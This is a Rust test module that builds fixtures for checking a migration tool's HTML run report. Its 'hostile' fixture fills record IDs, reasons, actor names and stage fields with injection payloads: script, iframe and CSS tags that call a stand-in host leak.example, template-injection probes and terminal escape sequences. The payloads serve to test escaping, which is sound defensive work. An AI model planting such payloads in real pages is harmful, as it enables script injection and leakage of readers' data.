//! The report of a run: one set of figures in three forms, and a page that asks nobody for anything.

mod checks;
mod figures;
mod files;
mod hostile;
mod page;
mod runs;

use serde_json::Value as Json;

use crate::support::world::{Scene, copy_tree, migration};

/// A shipped project in a folder of its own, signed, with its sample records loaded.
fn shipped(name: &str, database: &str) -> Scene {
    let scene = Scene::new();
    copy_tree(&migration(name), &scene.path(""));
    assert_eq!(scene.run(&["checkpoint", "--new-key"]).code, 0);
    let records = format!("records/{database}.ndjson");
    let loaded = scene.run(&["load", database, &records, "--batch-size", "40"]);
    assert_eq!(loaded.code, 0, "{}", loaded.err);
    scene
}

/// The bank, with three stages applied and the last of them taken back.
fn bank() -> Scene {
    let scene = shipped("bank", "legacy_transactions");
    let applied = scene.run(&["apply", "--batch-size", "40", "--reason", "cut-over, CHG-4711"]);
    assert_eq!(applied.code, 3, "{}", applied.err);
    let undone = scene.run(&["rollback", "--yes", "--reason", "another bound"]);
    assert_eq!(undone.code, 0, "{}", undone.err);
    scene
}

/// A store in which everything that people and records may name is an attack on the page.
fn hostile() -> Scene {
    let scene = Scene::named("hostile", &[("0001_a.toml", HOSTILE_STAGE)]);
    let records: Vec<String> = HOSTILE
        .iter()
        .map(|id| serde_json::json!({"id": id, "v": "1.00", "secret": SECRET, "note": id}).to_string())
        .collect();
    let torn = format!("\n{{\"id\":\"torn\",\"secret\":\"{SECRET}\n");
    scene.write("r.ndjson", &(records.join("\n") + &torn));
    assert_eq!(scene.run(&["load", "r", "r.ndjson"]).code, 3);
    let output = scene
        .command(&["apply", "--reason", HOSTILE[0]])
        .env("COUNTERFOIL_ACTOR", HOSTILE[1])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(3));
    scene
}

const SECRET: &str = "Tr0ub4dor";

const HOSTILE: [&str; 6] = [
    "</q></script><script src=http://leak.example/a.js></script><img src=http://leak.example/b onerror=alert(1)>",
    "\"><link rel=stylesheet href=http://leak.example/c.css><style>@import url(http://leak.example/d);</style>",
    "' style='background:url(http://leak.example/e)",
    "{{ 7*7 }}${7*7}<!-- &lt;b&gt; -->",
    "\u{202e}gnp.exe\u{1b}[2J\u{200b}",
    "a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-\
     a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id-a-very-long-id",
];

const HOSTILE_STAGE: &str = r#"
[stage]
description = "</style><script>fetch('http://leak.example/f')</script>"
source = "r"
target = "s"
max_errors = "100%"
rounding = "half-even"
redact = ["secret"]

[[op]]
op = "decimal"
path = "v"
places = 2

[[contract.rule]]
name = "</td><iframe src=http://leak.example/g></iframe>"
expect = "= len(doc.secret) < 5"

[[reconcile]]
name = "<object data=http://leak.example/h>"
source = "= decimal(doc.v)"
target = "= decimal(doc.v)"
"#;

fn number(value: &Json) -> u64 {
    value.as_u64().unwrap_or_else(|| panic!("{value} is no count"))
}

fn text(value: &Json) -> &str {
    value.as_str().unwrap_or_else(|| panic!("{value} is no text"))
}

fn list(value: &Json) -> &[Json] {
    value.as_array().unwrap_or_else(|| panic!("{value} is no list"))
}

/// What a reader of a page reads: no markup, one space between words.
fn read(page: &str) -> String {
    let (head, style) = page.split_once("<style>").unwrap();
    let body = style.split_once("</style>").unwrap().1;
    let mut words = String::new();
    let mut inside = false;
    for letter in format!("{head}{body}").chars() {
        match letter {
            '<' => inside = true,
            '>' if inside => {
                inside = false;
                words.push(' ');
            }
            _ if !inside => words.push(letter),
            _ => {}
        }
    }
    for (escape, letter) in [("60", "<"), ("62", ">"), ("34", "\""), ("39", "'"), ("38", "&")] {
        words = words.replace(&format!("&#{escape};"), letter);
    }
    words.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn page(scene: &Scene, run: &str) -> String {
    let ran = scene.run(&["report", run, "--html", "-"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    ran.out
}
